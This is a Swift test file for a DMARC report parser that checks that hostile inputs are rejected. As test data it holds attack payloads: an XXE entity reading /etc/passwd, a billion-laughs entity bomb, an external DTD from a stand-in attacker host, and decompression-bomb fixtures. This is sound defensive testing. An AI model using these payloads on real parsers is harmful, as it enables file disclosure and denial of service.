@_spi(Testing) import ReportReading
import Testing

/// Inputs that attack the reader: each is rejected with a reason that says why.
@Suite struct HostileInputTests {
    @Test func externalEntityIsRejected() throws {
        let xml = """
            <?xml version="1.0"?><!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            <feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>
            """
        let result = try read(xml)
        #expect(result.reports.isEmpty)
        #expect(result.rejections.first?.error.code == .doctype)
        #expect(result.rejections.first?.error.message.contains("DOCTYPE not allowed") == true)
    }

    @Test func billionLaughsIsRejected() throws {
        var entities = "<!ENTITY lol \"lol\">"
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            entities += "<!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">"
        }
        let xml = "<?xml version=\"1.0\"?><!DOCTYPE feedback [\(entities)]><feedback>&lol9;</feedback>"
        let result = try read(xml)
        #expect(result.reports.isEmpty)
        #expect(result.rejections.first?.error.code == .doctype)
    }

    @Test func externalDTDIsRejected() throws {
        let xml = reportXML().replacingOccurrences(
            of: "<feedback>", with: "<!DOCTYPE feedback SYSTEM \"http://attacker.example/x.dtd\"><feedback>")
        #expect(try read(xml).rejections.first?.error.code == .doctype)
    }

    @Test func gzipBombStopsAtTheRatioCap() throws {
        let result = try readFile(TestPaths.fixture("bomb.xml.gz"))
        #expect(result.reports.isEmpty)
        #expect(result.rejections.first?.error.code == .limitExceeded)
        #expect(result.rejections.first?.error.message.contains("decompression bomb") == true)
    }

    @Test func zipBombStopsAtTheCaps() throws {
        let result = try readFile(TestPaths.fixture("bomb.zip"))
        #expect(result.rejections.first?.error.code == .limitExceeded)
        var small = ReadingLimits()
        small.maxDecompressedBytes = 16 << 20
        let capped = try readFile(TestPaths.fixture("bomb.zip"), limits: small)
        #expect(capped.rejections.first?.error.message == "exceeds 16 MiB decompressed")
    }

    @Test func decompressedSizeCapNamesTheLimit() throws {
        var small = ReadingLimits()
        small.maxDecompressedBytes = 1 << 20
        small.maxCompressionRatio = 1_000_000
        let result = try readFile(TestPaths.fixture("bomb.xml.gz"), limits: small)
        #expect(result.rejections.first?.error.message.hasPrefix("exceeds 1 MiB decompressed") == true)
    }

    @Test(arguments: [
        ("truncated.xml.gz", "gzip stream truncated"), ("corrupt.xml.gz", "gzip stream corrupt"),
        ("truncated.zip", "no end of central directory"), ("bad-crc.zip", "fails its CRC check"),
        ("truncated.xml", "document ends before </feedback>"),
    ])
    func brokenContainersAreRejectedWithTheirReason(name: String, reason: String) throws {
        let result = try readFile(TestPaths.fixture(name))
        #expect(result.reports.isEmpty)
        #expect(result.rejections.count == 1)
        #expect(result.rejections.first?.error.message.contains(reason) == true)
    }

    @Test func emptyInputIsRejected() throws {
        #expect(try read(bytes: []).rejections.first?.error.code == .empty)
        #expect(try read("  \n ").rejections.first?.error.code == .empty)
    }

    @Test func htmlIsNotAReport() throws {
        let result = try read("<!doctype html><html><body><h1>502 Bad Gateway</h1></body></html>")
        #expect(result.reports.isEmpty)
        #expect(result.rejections.count == 1)
    }

    @Test func wellFormedNonReportIsNamed() throws {
        let result = try read("<?xml version=\"1.0\"?><html><body>hi</body></html>")
        #expect(result.rejections.first?.error.code == .notAReport)
    }

    @Test func plainTextIsNotXML() throws {
        let result = try read("This is not XML at all")
        #expect(result.rejections.first?.error.message == "not XML: starts with \"This is not XML at all\"")
    }

    @Test func deepNestingIsCapped() throws {
        let deep = String(repeating: "<a>", count: 100) + String(repeating: "</a>", count: 100)
        let result = try read(reportXML(records: deep))
        #expect(result.rejections.first?.error.code == .limitExceeded)
        #expect(result.rejections.first?.error.message == "elements nested deeper than 32")
    }

    @Test func hugeTextIsCapped() throws {
        let metadata = "<report_metadata><org_name>" + String(repeating: "x", count: 70_000) + "</org_name></report_metadata>"
        let result = try read(reportXML(metadata: metadata))
        #expect(result.rejections.first?.error.code == .limitExceeded)
    }

    @Test func tooManyDKIMResultsPerRowAreCapped() throws {
        let dkim = String(repeating: "<dkim><domain>x.example</domain><result>pass</result></dkim>", count: 101)
        let record = defaultRecord.replacingOccurrences(of: "<auth_results>", with: "<auth_results>\(dkim)")
        let result = try read(reportXML(records: record))
        #expect(result.rejections.first?.error.message.contains("more than 100 DKIM results") == true)
    }

    @Test func recordCountIsCapped() throws {
        var limits = ReadingLimits()
        limits.maxRecordsPerReport = 2
        let result = try read(reportXML(records: defaultRecord + defaultRecord + defaultRecord), limits: limits)
        #expect(result.reports.isEmpty)
        #expect(result.rejections.first?.error.message == "more than 2 records in one report")
    }
}
